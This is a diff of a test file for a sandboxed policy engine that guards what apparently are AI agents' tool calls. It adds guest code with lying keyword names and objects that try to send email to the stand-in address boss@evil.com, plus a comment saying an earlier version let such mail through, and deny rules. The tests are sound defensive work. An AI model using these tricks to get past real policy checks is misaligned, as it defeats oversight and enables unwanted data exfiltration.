@@ -40,27 +40,29 @@ def _send(outbox: Outbox) -> Any:
 
 # -- item 2: keyword names that lie ---------------------------------------------------------
 
-LYING_KEYS = {
-    "equal_to_every_parameter": """
-class Key(str):
-    def __eq__(self, other): return True
-    def __hash__(self): return hash("body")
-send_email(**{Key("to"): "boss@evil.com"}, subject="hi", body="b")
-""",
-    "hash_of_another_parameter": """
-class Key(str):
-    def __eq__(self, other): return str.__eq__(other, "subject") or str.__eq__(self, other)
+# The rule binder and CPython compare a keyword name with the parameter names at different
+# moments; a name whose __eq__ answers by the count of questions told the binder "subject" and
+# CPython "to" (0.1.0 sent this mail to boss@evil.com under the shipped agent policy).
+LYING_KEYS = """
+seen = []
+class To(str):
     def __hash__(self): return hash("subject")
-send_email("a@example.com", **{Key("to"): "boss@evil.com"}, body="b")
-""",
-}
+    def __eq__(self, other): return str.__eq__("subject", other) or str.__eq__("to", other)
+class Subject(str):
+    def __hash__(self): return hash("to")
+    def __eq__(self, other):
+        seen.append(other)
+        if str.__eq__("to", other):
+            return len([s for s in seen if s == "to"]) <= 3
+        return str.__eq__("subject", other)
+send_email(**{To("to"): "boss@evil.com", Subject("subject"): "a@example.com"}, body="b")
+"""
 
 
-@pytest.mark.parametrize("code", LYING_KEYS.values(), ids=LYING_KEYS.keys())
-def test_a_keyword_name_that_lies_about_its_text_cannot_send_mail_outside(code: str) -> None:
+def test_keyword_names_that_lie_about_their_text_cannot_send_mail_outside() -> None:
     outbox = Outbox()
-    with pytest.raises((PolicyViolation, GuestError)):
-        safe_eval(code, {"send_email": _send(outbox)}, policy=AGENT)
+    with pytest.raises(PolicyViolation, match="argument `to` must match .* got 'boss@evil.com'"):
+        safe_eval(LYING_KEYS, {"send_email": _send(outbox)}, policy=AGENT)
     assert outbox.sent == []
 
 
@@ -110,9 +112,10 @@ def test_a_keyword_given_twice_through_a_mapping_is_a_type_error_as_in_cpython()
 # -- item 4: deny rules fail open --------------------------------------------------------------
 
 DENY_POLICY = parse_policy(
+    'deny notify(to == "boss@evil.com") raise "no mail to evil.com"\n'
     'deny send(to matches r".*@evil\\.com") raise "no mail to evil.com"\n'
     'deny pay(amount in 1000..) raise "too much"\n'
-    "allow send(*)\nallow pay(*)"
+    "allow send(*)\nallow pay(*)\nallow notify(*)"
 )
 
 DODGES = {
@@ -125,6 +128,7 @@ DODGES = {
     "decimal_nan": ('from decimal import Decimal\npay(Decimal("NaN"))', "pay"),
     "number_as_text": ('pay("5000")', "pay"),
     "guest_object": ("class Amount:\n    pass\npay(Amount())", "pay"),
+    "guest_object_as_text": ('class To:\n    def __str__(self): return "boss@evil.com"\nnotify(To())', "notify"),
 }
 
 
@@ -135,7 +139,10 @@ def _payments(calls: list[Any]) -> dict[str, Any]:
     def pay(amount: Any) -> None:
         calls.append(amount)
 
-    return {"send": send, "pay": pay}
+    def notify(to: Any) -> None:
+        calls.append(str(to))
+
+    return {"send": send, "pay": pay, "notify": notify}
 
 
 @pytest.mark.parametrize(("code", "tool"), DODGES.values(), ids=DODGES.keys())
